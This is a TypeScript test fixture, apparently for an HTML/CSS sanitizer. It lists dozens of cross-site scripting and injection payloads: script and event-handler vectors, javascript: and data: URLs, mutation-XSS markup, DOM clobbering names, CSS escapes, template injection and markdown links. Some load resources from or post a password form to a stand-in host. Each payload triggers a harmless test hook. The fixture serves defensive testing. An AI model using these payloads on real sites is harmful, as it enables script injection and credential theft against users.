const script = (run: string): string => `<script>${run}</script>`;
const page = `data:text/html,${script('parent.ran(1)')}`;

/** Calls `ran`, which the test puts on every window. */
export const hostile: readonly string[] = [
  // Elements that run when they are parsed.
  script('ran(1)'),
  '"><script src="https://elsewhere.invalid/x.js"></script>',
  '\'"></title></style></textarea></script><script>ran(1)</script>',
  '--><script>ran(1)</script><!-- ]]><script>ran(1)</script>',
  // Handlers.
  '<img src="x:" onerror="ran(1)">',
  '"><img src=x: onerror=ran(1)>',
  "' autofocus onfocus='ran(1)' x='",
  '<svg onload="ran(1)"></svg>',
  '<svg><script>ran(1)</script><script href="data:text/javascript,ran(1)"/></svg>',
  '<details open ontoggle="ran(1)"><summary>s</summary></details>',
  '<video autoplay><source src="x:" onerror="ran(1)"></video>',
  '<input autofocus onfocus="ran(1)"><select autofocus onfocus="ran(1)"></select>',
  '<body onload="ran(1)" onpageshow="ran(1)">',
  '<style>@keyframes r{}</style><i style="animation:r 1s" onanimationstart="ran(1)">i</i>',
  '<b onpointerover="ran(1)" onmouseover="ran(1)" onclick="ran(1)">b</b>',
  // Addresses that run.
  '<a href="javascript:ran(1)">a</a>',
  '<a href=" java\tscript:ran(1)">a</a>',
  '<a href="&#x6A;avascript&colon;ran(1)">a</a>',
  '<a href="\u0001javascript:ran(1)" target="_top">a</a>',
  `<a href="${page}" target="screen" ping="https://elsewhere.invalid/ping">a</a>`,
  '<svg><a xlink:href="javascript:ran(1)"><text y="9">t</text></a></svg>',
  '<svg><a><animate attributeName="href" values="javascript:ran(1)"/><text y="9">t</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='ran(1)'/>#x\"/></svg>",
  '<math href="javascript:ran(1)"><mtext>m</mtext></math>',
  'javascript:ran(1)',
  'JaVaScRiPt:ran(1)//https://example.com/a.png',
  page,
  'vbscript:ran(1)',
  // Frames, plugins and what changes the page around them.
  `<iframe srcdoc="${script('parent.ran(1)')}"></iframe>`,
  '<iframe src="javascript:parent.ran(1)"></iframe><iframe src="https://elsewhere.invalid/"></iframe>',
  `<object data="${page}"></object><embed src="${page}"><embed src="javascript:ran(1)">`,
  '<base href="https://elsewhere.invalid/" target="_blank">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/">',
  '<link rel="stylesheet" href="https://elsewhere.invalid/x.css"><link rel="prefetch" href="https://elsewhere.invalid/">',
  '<style>@import "https://elsewhere.invalid/x.css"; body { display: none }</style>',
  '<form action="javascript:ran(1)"><button formaction="javascript:ran(1)">b</button><input type="image" src="x:" onerror="ran(1)"></form>',
  '<form action="https://elsewhere.invalid/"><input name="password" type="password"></form>',
  // Markup that becomes something else when it is parsed a second time.
  '<noscript><p title="</noscript><img src=x: onerror=ran(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=ran(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x: onerror=ran(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=ran(1)>',
  '<template><script>ran(1)</script><img src="x:" onerror="ran(1)"></template>',
  '<xmp><p title="</xmp><img src=x: onerror=ran(1)>">',
  '<select><option><iframe></select><img src=x: onerror=ran(1)>',
  // Names that stand for those of a page.
  '<img name="body"><form id="document"><input name="cookie"></form><a id="screen" name="ran">a</a>',
  // Styles.
  '<div style="width:expression(ran(1));background:url(javascript:ran(1));position:fixed;inset:0;z-index:9999">d</div>',
  'width:expression(ran(1));background:url(javascript:ran(1));-moz-binding:url(https://elsewhere.invalid/x.xml)',
  'red;background:url(https://elsewhere.invalid/x.png)',
  // Templates of other languages.
  '{{constructor.constructor("ran(1)")()}}${ran(1)}#{ran(1)}<%= ran(1) %>',
  '\';ran(1);//";ran(1);//`;ran(1);//',
  // Markdown.
  '[a](javascript:ran(1)) [b](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+) <javascript:ran(1)>',
  '![x" onerror="ran(1)](x: "t" onerror="ran(1)") [r]\n\n[r]: javascript:ran(1) "<img src=x: onerror=ran(1)>"',
  // Keys of the language.
  '__proto__',
  'constructor',
];

/** Styles of a config that try to leave the task's area. */
export const hostileStyles: readonly string[] = [
  'body { display: none } } body { display: none }',
  '.a { content: "{{" } } body { display: none } }',
  '.a { b: url(x"); } } body { display: none } .c { d: url(y"); }',
  '.a { b: url("x:) } } body { display: none } /"); }',
  '.a { b: u\\72l(x"); } } body { display: none } .c { d: u\\72l(y"); }',
  '.a { b: //**/* { */ } } body { display: none } }',
  '@property --gs-surface { syntax: "<color>"; inherits: false; initial-value: red }',
  '@import "https://elsewhere.invalid/x.css"; .a { background: url(javascript:ran(1)); width: expression(ran(1)) }',
];

/** A file name with one of them, and with what a name may hold only. */
export const hostileName = '"><img src=x onerror=ran(1)>';
